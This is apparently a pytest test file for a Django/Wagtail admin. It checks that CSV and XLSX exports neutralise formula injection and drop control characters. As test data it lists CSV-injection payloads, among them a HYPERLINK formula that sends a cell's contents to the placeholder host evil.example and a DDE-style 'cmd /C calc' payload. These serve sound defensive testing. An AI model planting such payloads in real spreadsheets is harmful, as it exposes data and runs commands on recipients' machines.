"""Every CSV and XLSX the admin offers, fed hostile text: formulas come out inert (a leading
apostrophe), control characters are dropped (XLSX never 500s), CSV is UTF-8 with a BOM and says
so."""

import csv
import io

from django.urls import reverse
from django.utils import timezone

from wagtail.models import Page

import openpyxl
import pytest

from buyers.models import Subscriber
from core.csv_export import csv_response, safe_cell
from tests.buyers.factories import SubscriberFactory
from tests.buyers.inbox import ask, make_request  # noqa: F401  (fixtures)

HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Clique")': "'=HYPERLINK(",
    "+351 21 000 0000": "'+351",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
# (no NUL: PostgreSQL stores none; safe_cell's own test has one)
CONTROL = "Pedido\x01 com\x07 controlo\x1b e\x0b fim"
CONTROL_CLEAN = "Pedido com controlo e fim"


def csv_rows(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith("\ufeff".encode()), "UTF-8 byte-order mark"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def xlsx_rows(response):
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    return [["" if cell is None else str(cell) for cell in row] for row in sheet.values]


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_inert(rows, expected_starts):
    found = cells(rows)
    for start in expected_starts:
        # (a page title's CR comes back as LF through the revision it is published from)
        starts = (start, start.replace("\r", "\n"))
        assert any(cell.startswith(starts) for cell in found), (start, found)
    for cell in found:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell), cell


def test_safe_cell_keeps_numbers_and_neutralises_text():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
    assert safe_cell("-3") == "'-3"
    assert safe_cell(None) == "" and safe_cell(True) == "True"
    assert safe_cell("\x00=1") == "'=1"


@pytest.mark.django_db
def test_the_projects_own_csv_neutralises_text_but_not_numbers(rf):
    rows = [[text, -4] for text in HOSTILE] + [[CONTROL, 1]]
    response = csv_response("x.csv", ["Título", "=N"], iter(rows))
    parsed = csv_rows(response)
    assert parsed[0] == ["Título", "'=N"]
    assert_inert([row[:1] for row in parsed], HOSTILE.values())
    assert [row[1] for row in parsed[1:]] == ["-4"] * len(HOSTILE) + ["1"]
    assert parsed[-1][0] == CONTROL_CLEAN


@pytest.fixture
def hostile_requests(request):
    """One request per hostile value, in the organisation and the message fields."""
    new_request = request.getfixturevalue("make_request")
    page = new_request("pt").page
    for text in [*HOSTILE, CONTROL]:
        new_request("pt", data={"organisation": text, "message": text})
    return page


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["pt", "en"])
def test_the_forms_menu_exports_are_inert(staff_client, hostile_requests, language):
    staff_client.defaults["HTTP_ACCEPT_LANGUAGE"] = language  # the admin follows it
    url = reverse("wagtailforms:list_submissions", args=[hostile_requests.pk])
    parsed = csv_rows(staff_client.get(url + "?export=csv"))
    heading = "Data de envio" if language == "pt" else "Submission date"
    assert parsed[0][0] == heading
    assert_inert(parsed, HOSTILE.values())
    assert CONTROL_CLEAN in cells(parsed)

    sheet = xlsx_rows(staff_client.get(url + "?export=xlsx"))
    assert sheet[0][0] == heading
    assert_inert(sheet, HOSTILE.values())
    assert CONTROL_CLEAN in cells(sheet)


@pytest.mark.django_db
def test_the_subscriber_exports_are_inert_and_utf8(staff_client):
    staff_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "pt"
    now = timezone.now()
    for n, text in enumerate(HOSTILE):
        # Addresses a mail server would refuse, written straight to the table (the worst case).
        SubscriberFactory(email=f"{text}{n}@example.pt", confirmed_at=now)
    SubscriberFactory(email=f"{CONTROL}@example.pt", confirmed_at=now)
    url = reverse(Subscriber.snippet_viewset.get_url_name("list"))
    parsed = csv_rows(staff_client.get(url + "?export=csv"))
    assert parsed[0][0] == "Endereço de correio eletrónico"  # the accented heading, read as UTF-8
    assert_inert(parsed, HOSTILE.values())
    sheet = xlsx_rows(staff_client.get(url + "?export=xlsx"))
    assert_inert(sheet, HOSTILE.values())
    assert f"{CONTROL_CLEAN}@example.pt" in cells(sheet)


@pytest.mark.django_db
@pytest.mark.parametrize("report", ["aging_pages", "site_history"])
def test_wagtails_reports_export_inert_cells(staff_client, homes, report):
    for text in [*HOSTILE, CONTROL]:
        page = homes["pt"].add_child(instance=Page(title=text, slug=f"p{len(text)}{ord(text[0])}"))
        page.save_revision(log_action=True).publish(log_action=True)
    url = reverse(f"wagtailadmin_reports:{report}")
    parsed = csv_rows(staff_client.get(url + "?export=csv"))
    assert_inert(parsed, HOSTILE.values())
    assert CONTROL_CLEAN in cells(parsed)
    sheet = xlsx_rows(staff_client.get(url + "?export=xlsx"))
    assert_inert(sheet, HOSTILE.values())
